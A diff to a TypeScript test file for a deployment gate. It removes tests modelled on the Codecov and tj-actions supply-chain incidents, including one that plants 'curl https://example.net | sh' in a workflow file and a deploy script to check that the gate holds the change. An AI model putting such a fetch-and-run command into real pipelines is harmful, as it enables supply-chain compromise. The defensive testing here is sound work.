@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { BODY, type GateScenario, gateScenario, RP } from '../acceptance/gate-scenario.ts';
-import { POLICY_PATH, type PolicyDraft, RP_CHANGE } from '../acceptance/scenario.ts';
+import { type GateScenario, gateScenario, RP } from '../acceptance/gate-scenario.ts';
+import { POLICY_PATH, type PolicyDraft } from '../acceptance/scenario.ts';
 
 /* By whose rules. */
 
@@ -225,51 +225,5 @@ describe('who made the rules', () => {
     s.deploy();
     s.land();
     expect(await s.gate()).toMatchObject({ verdict: 'allow' });
-  });
-});
-
-// Workflow swapped: The workflow or the script that deploys is changed along with, or before, the release, so that it takes the list of sites for a suggestion.
-// Origin: Codecov (2021) and tj-actions/changed-files (CVE-2025-30066): what runs in the pipeline was changed, not what it shipped.
-it.each(['.github/actions/x/action.yml', 'scripts/deploy/lib/sites.sh'])('workflow swapped: %s', async (path) => {
-  const s = await gateScenario();
-  s.deploy();
-  const pull = s.land({ body: BODY, changes: { ...RP_CHANGE, [path]: 'curl https://example.net | sh\n' } });
-  expect(await s.gate()).toMatchObject({
-    verdict: 'hold',
-    targets: null,
-    codes: expect.arrayContaining(['policy.changed']),
-  });
-  s.world.review(pull.number, { author: 'erin' });
-  expect(await s.gate()).toMatchObject({ verdict: 'allow' });
-});
-
-// Inventory file: The inventory is a file, and the list of sites is changed by a push, by the release itself, or after the commit that is deployed, to make room for other sites.
-// Origin: Codecov (2021): a file that everybody took for given was the one that was changed.
-describe('inventory file', () => {
-  const PATH = 'inventory/sites.csv';
-
-  const csv = (more = '') =>
-    `id,name,status,template-engine\nR1,Fernbank,active,resource-publisher\nT1,Hollyfield,active,template-manager\n${more}`;
-
-  const WIDE = { [PATH]: csv('T2,Rowanwell,active,resource-publisher\n') };
-
-  it.each(['pushed', 'in the release', 'in the release, approved by its owner alone'])('%s', async (how) => {
-    const s = await gateScenario({
-      policy: (draft: PolicyDraft) => void (draft.inventory = { provider: 'file', path: PATH }),
-      world: { files: { [PATH]: csv() } },
-    });
-    s.deploy();
-    const wanted = s.land({
-      ...(how !== 'pushed' && { approvedBy: how === 'in the release' ? [] : ['alice'] }),
-      changes: { ...RP_CHANGE, ...(how !== 'pushed' && WIDE) },
-    });
-    if (how === 'pushed') s.push(WIDE);
-    expect(await s.gate({ commit: wanted.landed.oid })).toMatchObject({
-      targets: null,
-      codes: expect.arrayContaining(['policy.changed']),
-    });
-    if (how === 'pushed') return;
-    for (const author of ['alice', 'erin']) s.world.review(wanted.number, { author });
-    expect(await s.gate()).toMatchObject({ verdict: 'allow', targets: ['R1', 'T2'] });
   });
 });
